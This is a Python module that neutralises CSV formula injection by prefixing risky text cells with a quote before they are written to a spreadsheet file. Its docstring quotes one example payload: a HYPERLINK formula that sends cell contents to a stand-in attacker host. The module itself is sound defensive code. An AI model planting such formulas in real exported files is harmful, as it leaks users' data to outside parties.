"""CSV that is safe to open in a spreadsheet: every CSV the studio writes goes through here.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets ("CSV injection"): a prompt such as
`=HYPERLINK("https://evil.example/?"&A1, "open")` would become a live link or worse in a
teammate's spreadsheet. Following OWASP, such a text cell gets a leading single quote, which
spreadsheets show as plain text and which a human reader recognises.

What stays as it is:
- values that are not text (int, float, Decimal, None, bool): a negative amount such as
  -0.5 is a number, not a formula, and must stay one for sums;
- text that is a plain decimal number, such as "-0.5" or "+3" (`str(Decimal)` columns):
  spreadsheets read it as the same number, and no formula can hide in digits.

Leading spaces are skipped before looking at the first character, because some spreadsheets
trim them on import. Quoting of commas, quotes and newlines is left to the `csv` module.

Use `writer(f)` / `DictWriter(f, fieldnames)` as drop-ins for the `csv` module's, or
`neutralise(value)` for a single cell.
"""

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet should show it: text that a spreadsheet would run as a
    formula gets a leading `'`; numbers and other text are returned unchanged."""
    if not isinstance(value, str):
        return value
    stripped = value.lstrip(" ")
    if stripped.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(stripped):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` with every cell passed through `neutralise`."""

    def __init__(self, f, dialect: str | type[csv.Dialect] = "excel", **fmtparams) -> None:
        self._writer = csv.writer(f, dialect, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f, dialect: str | type[csv.Dialect] = "excel", **fmtparams) -> SafeWriter:
    return SafeWriter(f, dialect, **fmtparams)


class DictWriter(csv.DictWriter):
    """`csv.DictWriter` with every value passed through `neutralise` (the header row is
    ours, not user input, and is written as is)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
